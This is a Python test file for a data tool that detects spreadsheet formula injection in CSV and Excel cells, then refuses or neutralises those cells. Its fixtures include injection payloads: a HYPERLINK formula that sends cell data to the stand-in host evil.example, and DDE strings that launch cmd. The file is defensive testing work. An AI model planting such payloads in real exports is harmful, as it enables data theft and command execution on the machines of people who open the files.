"""Cells a spreadsheet would run as a formula: refused, or neutralised and counted."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import Workbook

from cdx.core.errors import SourceFormula
from cdx.packaging.formulas import is_formula
from cdx.packaging.tabular import normalise_table

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "- cmd|' /C calc'!A0",
    "-A1",
    "+(1)",
    "=1+1",
]
NOT_FORMULAS = [
    "-5",
    "-2.5",
    "+3",
    "-1,234.50",
    "-12%",
    "-2.5e3",
    "-1.2921, 36.8219",
    "+254 712 345 678",
    "+254-712-345-678",
    "- not applicable",
    "-",
    "--",
    "=",
    "Kisumu",
    "",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_cells_a_spreadsheet_runs_are_formulas(cell: str) -> None:
    assert is_formula(cell)


@pytest.mark.parametrize("cell", NOT_FORMULAS)
def test_negative_numbers_phones_and_dashed_text_are_not_formulas(cell: str) -> None:
    assert not is_formula(cell)


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    return path


ROWS = [
    ["county", "comment", "change"],
    ["Kisumu", "- not applicable", "-5"],
    ["Nairobi", '=HYPERLINK("http://evil.example","click")', "-2.5"],
    ["Turkana", "far", "-2+3+cmd|' /C calc'!A0"],
]


def test_formula_cells_are_refused_by_default_with_row_and_column(tmp_path: Path) -> None:
    source = write_csv(tmp_path / "scores.csv", ROWS)
    with pytest.raises(SourceFormula) as caught:
        normalise_table(source, tmp_path / "out.csv")
    message = caught.value.message
    assert "2 cells would run as a spreadsheet formula" in message
    assert "row 3, column 2 (`comment`)" in message and "row 4, column 3 (`change`)" in message
    assert "formulas: neutralise" in (caught.value.hint or "")
    assert not (tmp_path / "out.csv").exists()


def test_neutralised_formula_cells_start_with_an_apostrophe_and_are_counted(
    tmp_path: Path,
) -> None:
    source = write_csv(tmp_path / "scores.csv", ROWS)
    table = normalise_table(source, tmp_path / "out.csv", formulas="neutralise")
    with table.path.open(encoding="utf-8", newline="") as handle:
        published = list(csv.reader(handle))
    assert published[2][1] == '\'=HYPERLINK("http://evil.example","click")'
    assert published[3][2] == "'-2+3+cmd|' /C calc'!A0"
    assert published[1] == ROWS[1]  # text and numbers starting with '-' stay as written
    assert table.formula_cells is not None
    assert table.formula_cells["cellsNeutralised"] == 2
    assert table.formula_cells["firstCells"][0] == {"row": 3, "column": 2, "field": "comment"}


def test_a_workbook_cell_whose_text_starts_with_a_formula_sign_is_found(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["county", "comment"])
    sheet.append(["Kisumu", "fine"])
    sheet.append(["Kilifi", "x"])
    sheet["B3"].value = "@SUM(1+1)*cmd|' /C calc'!A0"
    sheet["B3"].data_type = "s"  # text, as a person typed it after an apostrophe
    book.save(tmp_path / "survey.xlsx")
    with pytest.raises(SourceFormula) as caught:
        normalise_table(tmp_path / "survey.xlsx", tmp_path / "out.csv")
    assert "row 3, column 2 (`comment`)" in caught.value.message


@pytest.mark.parametrize("column", [0, 1, 2])
@pytest.mark.parametrize("cell", [*FORMULAS, "\u00a0=1+1", "\u3000@SUM(1)", "\x1f=1+1"])
def test_the_row_prefilter_misses_no_formula_in_any_column(cell: str, column: int) -> None:
    from cdx.packaging.formulas import find_formulas

    row = ["a", "b\x00=", "c"]  # a NUL inside a cell only sends the row to the cell check
    row[column] = cell
    found = find_formulas([["x", "y", "z"], ["-5", "Kisumu", ""], row])
    assert (found.count, found.first[0]["row"], found.first[0]["column"]) == (1, 3, column + 1)
